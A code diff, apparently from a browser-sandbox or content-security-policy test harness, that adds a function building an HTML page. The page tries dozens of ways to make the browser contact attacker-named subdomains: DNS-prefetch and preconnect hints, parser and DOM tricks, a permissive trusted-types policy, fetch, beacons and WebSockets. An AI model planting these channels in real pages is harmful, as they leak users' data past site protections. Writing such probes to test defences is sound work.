@@ -91,3 +91,53 @@ export const LEAVING: readonly (readonly [way: string, script: (spy: string) => 
     () => `location.href = new URL('./index.html', document.referrer || 'http://127.0.0.1/')`,
   ],
 ]
+
+/** Tries to have names under this one looked up, by hints and links, which no policy covers. */
+export function lookingUp(domain: string): string {
+  const at = (name: string) => `//${name}.${domain}/`
+  return `<meta http-equiv="x-dns-prefetch-control" content="on">
+<link rel="dns-prefetch" href="${at('static')}"><link rel="preconnect" href="${at('static-preconnect')}"><link rel="prefetch" href="http:${at('static-prefetch')}">
+<a href="http:${at('static-link')}">x</a><!--><link rel="dns-prefetch" href="${at('behind-comment')}">--><style>@import "http:${at('css-import')}"; body { background: url("http:${at('css-image')}") }</style><img src="http:${at('static-image')}">
+<p id="report"></p>
+<script>document.write('<li'); document.write('nk rel="dns-prefetch" href="${at('pieces')}">'); document.write('<lin')</script>k rel="dns-prefetch" href="${at('continued')}">
+<script>
+const domain = ${JSON.stringify(domain)}
+const address = name => 'http://' + name + '.' + domain + '/'
+const add = (name, attributes) => document.head.appendChild(Object.assign(document.createElement(name), attributes))
+add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' })
+for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
+  add('link', { rel, href: address('late-' + rel) })
+const changed = add('link', { href: address('changed') })
+changed.rel = 'dns-prefetch'
+const hint = (name, tag = 'link') => '<' + tag + ' rel="dns-prefetch preconnect" href="' + address(name) + '"/>'
+const inMath = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link')
+inMath.setAttribute('rel', 'dns-prefetch')
+inMath.setAttribute('href', address('prefixed'))
+document.head.append(inMath)
+const place = () => document.body.appendChild(document.createElement('div'))
+const attempts = [
+  () => { place().innerHTML = hint('inner') },
+  () => document.body.append(document.createRange().createContextualFragment(hint('fragment'))),
+  () => document.body.append(document.importNode(new DOMParser().parseFromString(hint('parsed'), 'text/html').querySelector('link'), true)),
+  () => document.body.append(document.importNode(new DOMParser().parseFromString('<h:p xmlns:h="http://www.w3.org/1999/xhtml">' + hint('parsed-xml', 'h:link') + '<h:template>' + hint('parsed-template', 'h:link') + '</h:template></h:p>', 'text/xml').documentElement, true)),
+  () => document.body.append(new DOMParser().parseFromString('<h:template xmlns:h="http://www.w3.org/1999/xhtml">' + hint('template', 'h:link') + '</h:template>', 'text/xml').documentElement.content),
+  () => document.body.append(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement),
+  () => { const t = document.createElement('template'); t.innerHTML = hint('of-template'); document.body.append(t.content) },
+  () => { customElements.define('a-link', class extends HTMLLinkElement {}, { extends: 'link' }); document.head.append(Object.assign(document.createElement('link', { is: 'a-link' }), { rel: 'dns-prefetch', href: address('custom') })) },
+  () => place().setHTMLUnsafe(hint('unsafe')),
+  () => place().setHTML(hint('sanitized'), { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }),
+  () => document.execCommand('insertHTML', false, hint('command')),
+  () => { const x = new XMLHttpRequest(); x.open('GET', 'data:text/xml,' + encodeURIComponent('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="' + address('requested') + '"/>')); x.responseType = 'document'; x.onload = () => document.body.append(document.importNode(x.response, true)); x.send() },
+  () => { trustedTypes.createPolicy('mine', { createHTML: words => words }) },
+  () => { String.prototype.replace = String.prototype.indexOf = () => 'x'; document.body.insertAdjacentHTML('beforeend', hint('replaced')) },
+]
+for (const attempt of attempts) try { attempt() } catch {}
+document.body.insertAdjacentHTML('beforeend', '<link rel=dns-prefetch href="' + address('written') + '"><a href="' + address('written-link') + '">y</a><svg><a href="' + address('drawn-link') + '"><text>z</text></a></svg>')
+const shadow = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })
+shadow.innerHTML = '<link rel=dns-prefetch href="' + address('shadow') + '"><a href="' + address('shadow-link') + '">y</a>'
+for (const way of [() => fetch(address('fetch')), () => navigator.sendBeacon(address('beacon')), () => new WebSocket('ws://socket.' + domain), () => new Image().src = address('image')])
+  try { Promise.resolve(way()).catch(() => {}) } catch {}
+add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [address('rule')] }] }) })
+setTimeout(() => { document.getElementById('report').textContent = 'tried' }, 1000)
+</script>`
+}
